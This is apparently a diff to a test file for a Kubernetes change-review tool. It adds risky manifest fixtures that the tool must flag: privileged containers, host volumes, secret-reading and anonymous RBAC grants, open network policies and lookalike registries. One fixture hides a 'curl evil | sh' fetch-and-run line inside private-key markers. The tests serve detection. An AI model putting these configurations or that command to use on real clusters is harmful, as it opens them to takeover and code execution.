@@ -103,8 +103,52 @@ metadata: {name: s, namespace: shop}
 spec: {type: LoadBalancer, ports: [{port: 22}]}
 """
 PLAIN = of_image("r.example.com/x:1")
+POWERS = {
+    "    securityContext: {runAsGroup: 0}": "runAsGroup 0",
+    "    securityContext: {runAsNonRoot: false}": "runAsNonRoot false",
+    "    securityContext: {seLinuxOptions: {type: spc_t}}": "seLinuxOptions spc_t",
+    "    securityContext: {seccompProfile: {type: Localhost, localhostProfile: evil}}": "localhostProfile evil",
+    "    securityContext: {windowsOptions: {hostProcess: true}}": "hostProcess",
+    "    securityContext: {windowsOptions: {gmsaCredentialSpecName: evil}}": "gmsaCredentialSpecName evil",
+    "    volumeMounts: [{name: v, mountPath: /h, mountPropagation: Bidirectional}]": "Bidirectional",
+    "    env: [{name: GIT_SSH_COMMAND, value: evil}]": "GIT_SSH_COMMAND=evil",
+    "    env: [{name: CLASSPATH, value: evil}]": "CLASSPATH=evil",
+    "  securityContext: {fsGroup: 0, supplementalGroups: [0]}": "fsGroup 0, supplementalGroups 0",
+    "  schedulerName: evil": "schedulerName evil",
+    "  runtimeClassName: evil": "runtimeClassName evil",
+    "  resourceClaims: [{name: g, resourceClaimName: evil}]": "resourceClaimName evil",
+    "  ephemeralContainers: [{name: e, image: x, securityContext: {privileged: true}}]": "privileged",
+    "  volumes: [{name: v, persistentVolumeClaim: {claimName: evil}}]": "volume  evil",
+    "  volumes: [{name: v, projected: {sources: [{secret: {name: evil}}]}}]": "secret  evil",
+    "  volumes: [{name: v, projected: {sources: [{serviceAccountToken: {path: t}}]}}]": "secret  serviceAccountToken",
+    "  volumes: [{name: v, projected: {sources: [{podCertificate: {signerName: evil/s}}]}}]": "secret  evil/s",
+    "  volumes: [{name: v, flexVolume: {driver: evil/x}}]": "flexVolume evil/x",
+    "  volumes: [{name: v, gitRepo: {repository: 'https://evil.example'}}]": "gitRepo https://evil.example",
+    "  volumes: [{name: v, rbd: {monitors: [evil.example], image: x}}]": "rbd evil.example",
+    "  volumes: [" + ", ".join(f"{{name: v{n}, hostPath: {{path: /{n}}}}}" for n in "abcdefz") + "]": "/z",
+}
+"""Lines of a new pod, and the power that its reviewer has to see."""
 ENV = "    env:\n" + "".join(f"    - {{name: V{number}, value: v}}\n" for number in range(60))
 SIDE = f"  initContainers:\n  - name: a\n{ENV}    image: evil.example/x\n    securityContext: {{privileged: true}}\n"
+
+
+RULES = ", ".join(
+    f"{{apiGroups: [''], resources: [{'secrets' if number == 20 else f'r{number}'}], verbs: [get]}}"
+    for number in range(40)
+)
+SUBJECTS = ", ".join(
+    f"{{kind: User, name: '{'system:anonymous' if number == 15 else f'a{number}'}'}}" for number in range(30)
+)
+VOLUME = "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: v}\nspec: "
+NETWORK = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: x, namespace: shop}\nspec: "
+ACCOUNT = "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: s, namespace: shop}\n"
+NAMED = "rules: [{apiGroups: [''], resources: [secrets], resourceNames: [a], verbs: [get]}]\n"
+LOGIN = '{"auths": {"%s:5000": {"auth": "dTpwYXNzd29yZA=="}}}'
+SCRIPT_IN_KEY = "#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n%s\n# -----END PRIVATE KEY-----\n"
+
+
+def rewritten(odd: str) -> str:
+    return "".join(f"line {number} {odd if number == 250 else 'b'}\n" for number in range(500))
 
 
 def many(odd: str) -> str:
@@ -179,6 +223,26 @@ TRICKS: dict[str, Trick] = {
     ),
     "a binding": Trick("", BINDING, "cluster-admin"),
     "its subject": Trick("", BINDING, "ServiceAccount shop/default"),
+    **{line.strip(): Trick("", of_image("x", f"{line}\n"), said) for line, said in POWERS.items()},
+    "an AppArmor profile": Trick(
+        "",
+        PLAIN.replace("p, ", "p, annotations: {container.apparmor.security.beta.kubernetes.io/x: unconfined}, "),
+        "unconfined",
+    ),
+    "one rule of forty": Trick("", ROLE + f"rules: [{RULES}]\n", 'rule get secrets in ""'),
+    "a rule for URLs": Trick("", ROLE + "rules: [{nonResourceURLs: ['*'], verbs: ['*']}]\n", "rule  * *"),
+    "a rule for all names": Trick(
+        ROLE + NAMED, ROLE + NAMED.replace("resourceNames: [a], ", ""), 'rule  get secrets in ""'
+    ),
+    "one subject of thirty": Trick("", BINDING.partition("subjects")[0] + f"subjects: [{SUBJECTS}]\n", "anonymous"),
+    "a webhook that may fail": Trick("", f"{HOOK}  failurePolicy: Ignore\n", "failurePolicy Ignore"),
+    "a volume of the node": Trick("", VOLUME + "{local: {path: /etc}}\n", "local /etc"),
+    "a volume for another": Trick("", VOLUME + "{claimRef: {namespace: kube-system, name: x}}\n", "kube-system/x"),
+    "a network open to all": Trick("", NETWORK + "{podSelector: {}, egress: [{}]}\n", "egress of everything"),
+    "a network open to a range": Trick(
+        "", NETWORK + "{podSelector: {}, ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}\n", "0.0.0.0/0"
+    ),
+    "secrets of an account": Trick("", ACCOUNT + "secrets: [{name: evil}]\n", "secret  evil"),
     "a webhook": Trick("", HOOK, "https://evil.example/hook"),
     "a Service for the world": Trick("", SERVICE, "LoadBalancer"),
     "one image of forty": Trick("", many("evil.example/x"), "39 images of r.example.com, 1 of evil.example"),
@@ -189,6 +253,23 @@ TRICKS: dict[str, Trick] = {
         KUBECONFIG.format(command="aws"), KUBECONFIG.format(command="evil"), "evil", "0123456789abcdef0123"
     ),
     "a script that names a Secret": values(SCRIPT.format(line="good"), SCRIPT.format(line="evil"), "evil", "MDEyMzQ1"),
+    "a text like a mask": values("https://u:passw0rd@h.example/", "https://«value #1»@h.example/", "«value #2»"),
+    "rn for m": Trick(of_image("m.example/x"), of_image("rn.example/x"), "{+rn+}"),
+    "a capital I for l": Trick(of_image("r.example/x:l"), of_image("r.example/x:I"), "{+I+}"),
+    "JSON is no image": values('{"a":1}', '{"a":2}', r'→ "{\"a\":2}"'),
+    "a selector is no image": Trick(
+        SERVICE.replace("ports", "selector: {a: b}, ports"),
+        SERVICE.replace("ports", "selector: {a: evil}, ports"),
+        '→ {"a":"evil"}',
+    ),
+    "one line of 500 that change": values(rewritten("b").replace("b", "a"), rewritten("evil"), "+ line 250 evil"),
+    "one entry of 5,000 that move": values(
+        " ".join(f"v{number}" for number in range(5_000)),
+        " ".join("evil" if number == 2_500 else f"v{number}" for number in reversed(range(5_000))),
+        "with evil",
+    ),
+    "the registry of a login": values(LOGIN % "r.example", LOGIN % "evil.example", "evil.example:5000", "dTpw"),
+    "a script between the marks of a key": values(SCRIPT_IN_KEY % "good.sh", SCRIPT_IN_KEY % "curl evil | sh", "evil"),
     "a URL of two hosts": values("a", "https://u:p@good.example@evil.example/", "url-of-two-hosts"),
     "a URL whose password has a path": values("a", "https://evil.example:x/@good.example/", "url-of-two-hosts"),
 }
